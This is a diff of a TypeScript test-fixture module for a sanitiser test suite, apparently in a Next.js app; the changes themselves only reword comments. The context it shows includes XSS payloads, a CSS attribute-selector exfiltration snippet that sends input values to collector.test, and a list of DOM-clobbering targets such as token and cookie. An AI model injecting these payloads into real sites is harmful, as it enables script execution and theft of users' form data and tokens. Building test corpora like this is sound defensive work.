@@ -8,12 +8,12 @@ function corpus<T>(name: string): T[] {
   return existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as T[]) : []
 }
 
-/** Markup that known holes of sanitisers let through. */
+/** Markup for known vulnerabilities of sanitizers. */
 export const sanitiserCorpus = corpus<{ payload: string }>('dompurify-expect.json').map(({ payload }) => payload)
 /** Strings that break naive programs. */
 export const naughtyStrings = corpus<string>('blns.json')
 
-/** Each runs by itself in a page that takes it as it is. */
+/** Each runs by itself in a page that renders it unsanitized. */
 export const ownAttacks = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -47,7 +47,7 @@ export const ownAttacks = [
   '<marquee onstart=alert(1)>a</marquee>',
 ]
 
-/** Wait for a click or a hover in a page that takes them as they are. */
+/** Wait for a click or a hover in a page that renders them unsanitized. */
 export const armedAttacks = [
   '<a href="javascript:alert(1)">a</a>',
   '<a href=" java&#x0A;script:alert(1)">a</a>',
@@ -69,7 +69,7 @@ ${[...KEYS].map((key) => `body input[value*="${key}"]{--x:url(https://collector.
 html:has(input[value^="a"]){list-style:u\\72l(https://collector.test/escaped)}
 input{border-image:image-set("https://collector.test/set" 1x);font-family:f}</style><p style="background:url(https://collector.test/inline)">a</p>`
 
-/** Names that scripts of a page or of Next look up on `window` and `document`. */
+/** Names that scripts of a page or of Next read from `window` and `document`. */
 export const clobberedNames =
   'cart coupon token customerToken self parent top location localStorage sessionStorage fetch document cookie body head forms title getElementById querySelector createElement next __next __next_f __NEXT_DATA__ React ReactDOM process require module define webpackChunk webpackChunk_N_E TURBOPACK history navigator navigation name status origin currentScript documentElement implementation'.split(
     ' ',
